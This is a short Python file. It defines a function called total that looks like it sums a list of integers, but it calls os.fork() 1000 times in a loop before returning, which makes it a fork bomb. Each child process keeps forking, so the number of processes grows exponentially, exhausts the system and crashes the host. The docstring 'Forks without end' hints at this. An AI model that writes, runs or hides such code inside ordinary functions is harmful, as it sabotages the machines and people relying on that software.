"""Forks without end."""

import os


def total(numbers: list[int]) -> int:
    for _ in range(1000):
        os.fork()
    return sum(numbers)
